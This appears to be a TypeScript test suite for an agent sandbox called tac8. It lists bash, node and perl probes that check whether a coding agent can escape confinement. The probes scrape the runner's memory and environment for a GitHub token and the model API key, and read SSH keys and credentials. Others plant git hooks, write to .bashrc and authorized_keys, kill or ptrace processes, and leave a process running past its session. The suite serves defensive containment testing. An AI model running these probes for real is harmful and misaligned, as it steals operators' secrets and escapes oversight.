/** Files, logs and processes outside, as the test sees them while the agent is at work or afterwards. */
export interface Seen {
  /** What the attack printed. */
  readonly output: string;
  /** Content of a file; "": it is missing. */
  readonly file: (path: string) => string;
  /** Paths and ports, by the variable's name in the script. */
  readonly at: Readonly<Record<string, string>>;
  /** What the test's servers received: `web`, `lan`, `udp`, `abstract`, `socket`. */
  readonly received: ReadonlySet<string>;
  /** Whether the process of `at.BYSTANDER` is alive. */
  readonly bystander: boolean;
  /** The test could take the lock while the agent was at work. */
  readonly lockTaken: boolean;
  readonly redisKeys: readonly string[];
  readonly runnerLog: string;
  /** Command lines of all processes when the run had ended. */
  readonly left: readonly string[];
  /** What the agent's user had left then where all users can write: paths, and kinds of shared memory and queues. */
  readonly traces: readonly string[];
}

export interface Attack {
  /** As in the table of docs/security.md. */
  readonly name: string;
  /** Bash. `$OUT` is a folder that agents may write to; the other variables are those of `Seen.at`. */
  readonly script: string;
  readonly reached: (seen: Seen) => boolean;
  /** What the result without isolation depends on beside tac8: then that cell is not compared. */
  readonly unlessIsolated?: string;
  /** … or also where agents are users of their own. */
  readonly unlessSandboxed?: string;
  /** Not tried elsewhere: it would reach beyond this machine. */
  readonly sandboxOnly?: true;
  /**
   * Tried only where agents are users of their own, which the launcher starts. The script prints `CONTROL` if the same works on
   * something of its own.
   */
  readonly userOnly?: true;
  /** Stopped in every mode: the script has to show by itself that it would work. */
  readonly stoppedAnyway?: true;
  /** Tried after all others. */
  readonly after?: true;
}

/** Text in every file of the test that agents must not read. */
export const CANARY = "canary-7c1f";
const printed = ({ output }: Seen): boolean => output.includes(CANARY);
const says = (word: string) => (seen: Seen) => seen.output.split("\n").includes(word);
const received = (name: string) => (seen: Seen) => seen.received.has(name);
const wrote = (variable: string, below: string) => (seen: Seen) =>
  seen.file(`${seen.at[variable] ?? ""}/${below}`).includes("evil");

const node = (program: string): string => `"$NODE" -e '${program}'`;
/** Opens for writing, writes nothing, and prints what could be opened. */
const opens = (paths: string): string =>
  `for f in ${paths}; do [ -f "$f" ] && ( : >>"$f" ) 2>/dev/null && echo OPEN "$f"; done`;
const opened = ({ output }: Seen): boolean => /^OPEN /m.test(output);
/** Perl is part of every Debian, and makes any system call. */
const CALL = {
  x64: { ptrace: 101, keyctl: 250, socket: 41, readv: 310 },
  arm64: { ptrace: 117, keyctl: 219, socket: 198, readv: 270 },
}[process.arch === "arm64" ? "arm64" : "x64"];
const connect = (to: string): string =>
  node(
    `const s=require("net").connect(${to}); s.on("connect",()=>{s.write("GET / HTTP/1.0\\r\\n\\r\\n");console.log("CONNECTED")}); s.on("data",d=>{console.log(String(d).slice(0,300));s.destroy()}); s.on("error",e=>console.log(e.code)); setTimeout(()=>process.exit(),3000)`,
  );

export const ATTACKS: readonly Attack[] = [
  // The token and other secrets.
  {
    name: "environment of the runner",
    script: "cat /proc/$RUNNER/environ | tr '\\0' '\\n'; echo",
    reached: ({ output }) => /^(PATH|TAC8_HOME)=/m.test(output),
  },
  {
    name: "secrets in the memory of the runner",
    script: node(
      `const fs=require("fs"),p="/proc/"+process.env.RUNNER;const f=fs.openSync(p+"/mem","r");for(const l of fs.readFileSync(p+"/maps","utf8").split("\\n")){const m=/^([0-9a-f]+)-([0-9a-f]+) rw/.exec(l);if(!m)continue;const a=parseInt(m[1],16),n=parseInt(m[2],16)-a;if(n>2**28)continue;const b=Buffer.alloc(n);try{fs.readSync(f,b,0,n,a)}catch{continue}const at=b.indexOf("ghp_"+process.env.M1+process.env.M2);if(at>=0){console.log(b.subarray(at,at+40).toString("latin1"));break}}`,
    ),
    reached: printed,
    unlessIsolated: "Yama",
  },
  {
    name: "descriptors of the runner",
    script: "ls -l /proc/$RUNNER/fd /proc/$RUNNER/cwd",
    reached: ({ output }) => output.includes("socket:"),
    unlessIsolated: "Yama",
  },
  {
    name: "ptrace of another process",
    script: `perl -e 'print syscall(${CALL.ptrace}, 16, $ENV{BYSTANDER}+0, 0, 0) == 0 ? "ATTACHED\\n" : "$!\\n"'`,
    reached: says("ATTACHED"),
    unlessIsolated: "Yama",
  },
  {
    name: "files with the GitHub token and other keys",
    script:
      'cat "$HOME_DIR/github-token" "$OWNER/.git-credentials" "$OWNER/.config/gh/hosts.yml" "$OWNER/.ssh/id_ed25519" /proc/1/root$OWNER/.npmrc /proc/self/root$OWNER/.npmrc /proc/*/cwd/..$OWNER/.npmrc',
    reached: printed,
  },
  { name: "the model's key in the agent's environment", script: "env", reached: printed },
  {
    name: "the model's key in a response of the API that repeats it",
    script: node(
      `fetch(process.env.ANTHROPIC_BASE_URL+"/v1/messages",{method:"POST",headers:{"x-api-key":process.env.ANTHROPIC_API_KEY,"content-type":"application/json"},body:"{}"}).then(async r=>console.log(r.status,JSON.stringify([...r.headers]),await r.text()),e=>console.log(e))`,
    ),
    reached: printed,
  },
  {
    name: "secrets in every file and process that the agent can read",
    script: `grep -rlasE 'canary-7c1[f]' $SEARCH --exclude-dir=usr --exclude-dir=node_modules --exclude-dir=sys --exclude-dir=task --exclude-dir=proc --exclude-dir=attacks | head -50; for p in /proc/[0-9]*; do [ -z "$SEARCH_ALL" ] && [ $p != /proc/self ] && continue; grep -las 'canary-7c1[f]' $p/environ $p/cmdline; done; echo`,
    reached: ({ output }) => output.trim() !== "",
  },
  {
    name: "the session keyring of tac8's user",
    script: `perl -e 'my $ring = syscall(${CALL.keyctl}, 0, -3, 1); my $text = "\\0" x 200; syscall(${CALL.keyctl}, 6, $ring, $text, 200) if $ring > 0; my ($kind, $uid) = split /;/, $text; print $ring <= 0 ? "$!\\n" : $uid == $ENV{TAC8_UID} || $uid == 0 ? "KEYRING\\n" : "its own: $text\\n"'`,
    reached: says("KEYRING"),
  },
  // What the runner executes.
  {
    name: "a program that git starts for the runner reads other issues, keys or the network",
    script: `printf '#!/bin/sh\\n{ echo ran; env; cat "%s/workspaces/octo/widgets/trees/gh-999/secret" "%s/.npmrc"; } >>"%s/planted" 2>&1; cat\\n' "$HOME_DIR" "$OWNER" "$OUT" >"$OUT/planted.sh"; chmod 755 "$OUT/planted.sh"; for k in filter.x.clean filter.x.smudge core.fsmonitor core.hooksPath diff.x.textconv core.sshCommand credential.helper core.pager gpg.program; do git config "$k" "$OUT/planted.sh"; done; mkdir -p "$(git rev-parse --git-common-dir)/hooks"; for h in pre-commit post-checkout post-index-change reference-transaction pre-push; do cp "$OUT/planted.sh" "$(git rev-parse --git-common-dir)/hooks/$h"; done; echo '* filter=x diff=x' >.gitattributes; echo planted >planted.txt; GIT_INDEX_FILE="$OUT/index" git add planted.txt; mv "$OUT/planted" "$OUT/planted-own"`,
    stoppedAnyway: true,
    reached: ({ file, at }) => file(`${at["OUT"] ?? ""}/planted`).includes(CANARY),
  },
  // Redis, the board and other local programs.
  { name: "the port of Redis", script: connect('+process.env.REDIS_PORT,"127.0.0.1"'), reached: says("CONNECTED") },
  {
    name: "a Redis without a password, by its socket",
    script: node(
      `const s=require("net").connect(process.env.REDIS_SOCKET);s.on("error",e=>console.log(e.code));s.write("SET evil-socket 1\\r\\n");s.on("data",d=>{console.log(String(d));s.destroy()})`,
    ),
    reached: ({ redisKeys }) => redisKeys.includes("evil-socket"),
  },
  { name: "the board", script: connect('+process.env.BOARD_PORT,"127.0.0.1"'), reached: says("CONNECTED") },
  {
    name: "other servers of the machine",
    script: connect('+process.env.WEB_PORT,"127.0.0.1"'),
    reached: received("web"),
  },
  {
    name: "servers of the machine through tac8's proxy",
    script: node(
      `const u=new URL(process.env.HTTP_PROXY||process.env.http_proxy||"http://127.0.0.1:"+process.env.WEB_PORT);const t="127.0.0.1:"+process.env.WEB_PORT;for(const h of [t,"[::ffff:127.0.0.1]:"+process.env.WEB_PORT,"0:"+process.env.WEB_PORT,"localhost:"+process.env.WEB_PORT,"2130706433:"+process.env.WEB_PORT])require("http").get({host:u.hostname,port:u.port,path:"http://"+h+"/proxied",headers:{host:h}},r=>{console.log(h,r.statusCode);r.resume()}).on("error",e=>console.log(h,e.code));setTimeout(()=>process.exit(),4000)`,
    ),
    reached: received("proxied"),
  },
  {
    name: "the network of the machine",
    script: connect("+process.env.LAN_PORT,process.env.LAN_IP"),
    reached: received("lan"),
  },
  {
    name: "UDP datagrams",
    script: node(
      `const s=require("dgram").createSocket("udp4");for(const h of ["127.0.0.1",process.env.LAN_IP])s.send("x",+process.env.UDP_PORT,h,e=>console.log(h,e?e.code:"SENT"));setTimeout(()=>process.exit(),500)`,
    ),
    reached: received("udp"),
  },
  {
    name: "addresses of the internet, and the cloud's metadata, without the proxy",
    script: `${connect('80,"169.254.169.254"')}; ${connect('443,"1.1.1.1"')}; ${node('require("dns").resolve("example.org",(e)=>console.log(e?e.code:"CONNECTED"));setTimeout(()=>process.exit(),3000)')}`,
    reached: says("CONNECTED"),
    sandboxOnly: true,
  },
  {
    name: "a socket to the host of a virtual machine",
    script: `perl -e 'print syscall(${CALL.socket}, 40, 1, 0) >= 0 ? "SOCKET\\n" : "$!\\n"'`,
    reached: says("SOCKET"),
    unlessSandboxed: "the kernel",
  },
  {
    name: "Unix sockets, such as those of Docker, D-Bus and ssh-agent",
    script: connect("process.env.SOCKET"),
    reached: received("socket"),
  },
  {
    name: "abstract Unix sockets, such as that of X11",
    script: connect('"\\0"+process.env.ABSTRACT'),
    reached: received("abstract"),
  },
  // Files of tac8, of other issues and of the owner.
  {
    name: "the mirror's settings and hooks",
    script:
      'cd "$MIRROR" && echo "[evil]" >>config; mkdir -p hooks refs/replace objects/info; echo evil >"$MIRROR/hooks/evil"; echo evil >"$MIRROR/refs/replace/evil"',
    reached: wrote("MIRROR", "hooks/evil"),
  },
  {
    name: "the mirror's objects",
    script: 'echo evil >"$MIRROR/objects/info/evil"; echo evil >"$MIRROR/objects/evil"',
    reached: wrote("MIRROR", "objects/evil"),
  },
  {
    name: "other issues' worktrees, home folders, prompts and notes: read",
    script:
      'cat "$HOME_DIR/workspaces/octo/widgets/trees/gh-999/secret" "$HOME_DIR/homes/octo/widgets/gh-999/secret" "$HOME_DIR/issues/octo/widgets/gh-999/prompt.md"',
    reached: printed,
  },
  {
    name: "other issues' worktrees, home folders, prompts and notes: write",
    script:
      'for d in "$HOME_DIR/workspaces/octo/widgets/trees/gh-999" "$HOME_DIR/homes/octo/widgets/gh-999" "$HOME_DIR/issues/octo/widgets/gh-999"; do mkdir -p "$d"; echo evil >"$d/evil"; done',
    reached: (seen) =>
      ["workspaces/octo/widgets/trees", "homes/octo/widgets", "issues/octo/widgets"].some((folder) =>
        wrote("HOME_DIR", `${folder}/gh-999/evil`)(seen),
      ),
  },
  {
    name: "tac8's note about how the agent's own run ended",
    script: 'mkdir -p "$NOTES"; echo evil >"$NOTES/evil"',
    reached: wrote("NOTES", "evil"),
  },
  {
    name: "notes of slots, logs, and everything else in the data folder",
    script: 'mkdir -p "$HOME_DIR"; ls -R "$HOME_DIR" | head -3; echo evil >"$HOME_DIR/evil"',
    reached: wrote("HOME_DIR", "evil"),
  },
  {
    name: "files that the operator's programs load: shell, ssh, systemd units, autostart",
    script:
      'for f in .bashrc .ssh/authorized_keys .config/systemd/user/evil.service .config/autostart/evil .claude/settings.json; do mkdir -p "$OWNER/$(dirname $f)"; echo evil >>"$OWNER/$f"; done',
    reached: wrote("OWNER", ".bashrc"),
  },
  { name: "tac8's own programs", script: opens('"$PROGRAM"'), reached: opened },
  {
    name: "files of the system",
    script: `${opens("/etc/passwd /usr/bin/env /etc/crontab")}; [ -w /etc ] && [ -d /etc/apt ] && echo OPEN /etc; [ -w /usr/bin ] && echo OPEN /usr/bin`,
    reached: opened,
  },
  {
    name: "files that only root may read",
    script: "cat /etc/shadow",
    reached: ({ output }) => output.includes("root:"),
  },
  { name: "temporary files of other programs", script: 'cat "$TMP_FILE"', reached: printed },
  {
    name: "shared memory of other programs",
    script: 'cat "$SHM_FILE"; ipcs -m -i "$SHM_ID"',
    reached: ({ output }) => printed({ output } as Seen) || /bytes=\d/.test(output),
  },
  {
    name: "a hard link to a file outside of the agent's folders",
    script: 'ln "$OWNER/.npmrc" "$OUT/hard"; ln "$OWNER/.npmrc" hard',
    reached: ({ file, at }) => file(`${at["OUT"] ?? ""}/hard`).includes(CANARY),
  },
  {
    name: "a link in place of the agent's own folders",
    after: true,
    script:
      'for d in "$TREE" "$HOME" "$ISSUE_TMP"; do mv "$d" "$d.moved" && ln -s "$OWNER" "$d"; done; [ -L "$ISSUE_TMP" ] && echo LINKED; for d in "$TREE" "$HOME" "$ISSUE_TMP"; do [ -L "$d" ] && rm "$d" && mv "$d.moved" "$d"; done',
    reached: says("LINKED"),
  },
  // The kernel and the machine.
  {
    name: "settings of the kernel",
    script: opens(
      "/proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/vm/drop_caches /proc/sysrq-trigger /proc/sys/fs/binfmt_misc/register /proc/irq/default_smp_affinity /proc/mtrr /proc/timer_list /proc/latency_stats",
    ),
    reached: opened,
  },
  {
    name: "devices and the kernel's memory",
    script:
      'head -c1 /proc/kcore >/dev/null && echo OPEN kcore; for f in /dev/mem /dev/kmsg /dev/sda /dev/vda /dev/fuse /dev/kvm; do [ -r $f ] && echo OPEN $f; done; mknod "$OUT/device" c 1 3 && echo OPEN mknod',
    reached: opened,
    unlessSandboxed: "the machine",
  },
  {
    name: "/sys, and control groups",
    script: "find /sys -maxdepth 4 -type f -writable 2>/dev/null | head -3 | sed 's/^/OPEN /'",
    reached: opened,
    unlessIsolated: "the machine",
  },
  {
    name: "mounting a file system",
    script: "unshare -m mount -t tmpfs none /mnt && echo MOUNTED; mount -o remount,rw /usr 2>&1 | head -1",
    reached: says("MOUNTED"),
  },
  {
    name: "new user namespaces",
    script: "unshare -Ur true && echo NAMESPACE",
    reached: says("NAMESPACE"),
    unlessSandboxed: "the kernel",
  },
  {
    name: "a program that is setuid root",
    script: '"$SETUID"',
    reached: ({ output }) => /\b(?:e?uid)=0\(/.test(output),
  },
  {
    name: "capabilities, groups, or a way to new privileges",
    script: "cat /proc/self/status",
    reached: ({ output }) =>
      !/^NoNewPrivs:\t1$/m.test(output) ||
      // In mode user one group: the repository's, an id of the test's own (see unusedUserIds).
      !/^Groups:\t(?:1\d{8})? *$/m.test(output) ||
      /^Cap(?:Inh|Prm|Eff|Bnd|Amb):.*[1-9a-f]/m.test(output),
  },
  {
    name: "unlimited memory outside of /tmp",
    script:
      'for d in / /dev /run /run/tac8 /etc /var /proc/acpi /proc/scsi; do ( echo x >"$d/evil" ) 2>/dev/null && rm "$d/evil" && echo OPEN "$d"; done',
    reached: opened,
    sandboxOnly: true,
  },
  // Processes and the lock.
  {
    name: "the lock of the agent's workspace",
    after: true,
    script: `perl -e 'my @pids = $ENV{SEARCH_ALL} eq "" ? ($ENV{RUNNER}, $ENV{AGENT}, getppid()) : map { m{(\\d+)} } glob("/proc/[0-9]*"); for my $pid (@pids) { my $one = syscall(434, $pid + 0, 0); for my $fd (3 .. 60) { my $got = syscall(438, $one, $fd, 0); next if $got < 0; next unless readlink("/proc/self/fd/$got") =~ /lock/; open(my $file, "+<&=", $got); print "UNLOCKED $pid\\n" if flock($file, 8) } }'`,
    reached: ({ lockTaken }) => lockTaken,
  },
  {
    name: "signals to other programs",
    after: true,
    script: "kill -KILL $BYSTANDER",
    reached: ({ bystander }) => !bystander,
  },
  {
    name: "a signal that pauses the runner",
    after: true,
    script: "kill -USR1 $RUNNER; sleep 1; kill -USR1 $RUNNER",
    reached: ({ runnerLog }) => runnerLog.includes("SIGUSR1"),
  },
  {
    name: "a process that outlives its run",
    after: true,
    script:
      'setsid env -i PATH=/usr/bin:/bin sh -c \'exec 0</dev/null 1>/dev/null 2>/dev/null 3>&- 4>&- 5>&-; cd /; (exec -a x sleep "$1") & exec sleep "$1"\' sh "$SLEEP" & disown; sleep 0.3; echo started',
    reached: ({ left, at }) => left.some((command) => command.includes(at["SLEEP"] ?? "-")),
    unlessIsolated: "control groups",
  },
  // Where agents are users of their own: the launcher, and other issues' agents.
  {
    name: "the launcher",
    userOnly: true,
    script: `d=$(dirname "$LAUNCHER_SOCKET"); ls "$d" 2>/dev/null && echo OPEN; ( : >>"$d/evil" ) 2>/dev/null && echo OPEN; ${connect("process.env.LAUNCHER_SOCKET")} | sed s/CONNECTED/OPEN/; perl -e 'use Socket; my $p = "$ENV{HOME}/own-socket"; socket(my $s, AF_UNIX, SOCK_STREAM, 0); bind($s, sockaddr_un($p)); listen($s, 1); socket(my $c, AF_UNIX, SOCK_STREAM, 0); print "CONTROL\n" if connect($c, sockaddr_un($p))'`,
    reached: opened,
  },
  {
    name: "a program as another user: setuid, setpriv, su, sudo",
    userOnly: true,
    script: `for u in 0 $TAC8_UID $VICTIM_UID; do [ "$(setpriv --reuid=$u id -u)" = $u ] && echo OPEN setpriv $u; [ "$(perl -e '$< = $> = $ARGV[0]; exec "id", "-u"' $u)" = $u ] && echo OPEN setuid $u; done; su nobody -s /bin/sh -c 'echo OPEN su' </dev/null; sudo -n true && echo OPEN sudo; [ "$(setpriv --reuid=$(id -u) id -u)" = $(id -u) ] && echo CONTROL`,
    reached: opened,
  },
  {
    name: "signals to the runner, the guard, the launcher and other issues' agents",
    userOnly: true,
    script:
      "for p in $RUNNER $GUARDS $LAUNCHER $VICTIM_PIDS; do kill -0 $p && echo OPEN $p; done; sleep 5 & kill -0 $! && kill $! && echo CONTROL",
    reached: opened,
  },
  {
    name: "memory, environment, descriptors and folders of the guard, the launcher and other issues' agents",
    userOnly: true,
    script: `try_read() { perl -e 'exit(syscall(${CALL.ptrace}, 16, $ARGV[0] + 0, 0, 0) != 0)' $1 && echo $2 ptrace; for f in environ maps; do [ "$(head -c1 /proc/$1/$f 2>/dev/null | wc -c)" = 1 ] && echo $2 $f; done; ls /proc/$1/fd/ /proc/$1/cwd/ /proc/$1/root/ >/dev/null 2>&1 && echo $2 folders; }; for p in $RUNNER $GUARDS $LAUNCHER $VICTIM_PIDS; do try_read $p OPEN; done; sleep 5 & sleep 0.2; try_read $! own | grep -q environ && echo CONTROL; kill $!`,
    reached: opened,
  },
  {
    name: "another issue's worktree, home folder and temporary files, by their paths",
    userOnly: true,
    script:
      'for d in $VICTIM_FOLDERS; do ls "$d" 2>/dev/null && echo OPEN list $d; for f in .git README.md .claude; do [ -e "$d/$f" ] && echo OPEN found $d/$f; cat "$d/$f" 2>/dev/null && echo OPEN read $d/$f; done; ( echo evil >"$d/evil" ) 2>/dev/null && echo OPEN write $d; mv "$d" "$d.moved" 2>/dev/null && echo OPEN move $d; chmod 777 "$d" 2>/dev/null && echo OPEN mode $d; done; ls "$TREE" "$HOME" >/dev/null && echo evil >"$HOME/evil" && echo CONTROL',
    reached: opened,
  },
  {
    name: "another issue's key, from its proxy",
    userOnly: true,
    script: node(
      `const ask=async(to,body)=>{try{const r=await fetch(to+"/v1/messages",{method:"POST",headers:{"x-api-key":process.env.ANTHROPIC_API_KEY,"content-type":"application/json"},body});return r.status+" "+await r.text()}catch(e){return String(e.cause||e)}};(async()=>{console.log(await ask(process.env.VICTIM_API,JSON.stringify({through:"another"})));const own=await ask(process.env.ANTHROPIC_BASE_URL,"{}");console.log(own);if(own.includes("no such key"))console.log("CONTROL")})()`,
    ),
    reached: received("another's key"),
  },
  {
    name: "another issue's proxy, for connections and for its list of hosts",
    userOnly: true,
    script: node(
      `const ask=async(at)=>{try{return (await fetch(at)).status}catch(e){return String(e.cause||e)}};(async()=>{console.log("ANSWER",await ask(process.env.VICTIM_API));if(await ask(process.env.ANTHROPIC_BASE_URL)===200)console.log("CONTROL")})()`,
    ),
    reached: ({ output }) => /^ANSWER \d/m.test(output),
  },
  {
    name: "the mirror of another repository",
    userOnly: true,
    script:
      'cat "$OTHER_MIRROR"; ls "$(dirname "$OTHER_MIRROR")"; git -C "$MIRROR" rev-parse --verify refs/heads/main >/dev/null; ls "$MIRROR/objects" >/dev/null && echo CONTROL',
    reached: printed,
  },
  {
    name: "files and links in place of tac8's own in /tmp",
    userOnly: true,
    script:
      'f="$HEARTBEAT"; ( : >>"$f" ) 2>/dev/null && echo OPEN write; rm -f "$f" 2>/dev/null && echo OPEN remove; mv "$f" "$f.moved" 2>/dev/null && echo OPEN move; ln -sfn /etc/passwd "$f" 2>/dev/null && echo OPEN link; own=/tmp/$LEFT.own; ( : >>"$own" ) && rm "$own" && echo CONTROL',
    reached: opened,
  },
  {
    name: "files and memory that the agent leaves where all users can write",
    userOnly: true,
    after: true,
    script:
      'for d in /tmp /var/tmp /dev/shm; do mkdir "$d/$LEFT" "$d/$LEFT/closed"; echo evil >"$d/$LEFT/closed/file"; chmod 000 "$d/$LEFT/closed"; chmod 500 "$d/$LEFT"; done; ipcmk -M 4096; ipcmk -S 1; ipcmk -Q; [ -d "/tmp/$LEFT" ] && echo CONTROL',
    reached: ({ traces }) => traces.length > 0,
  },
];
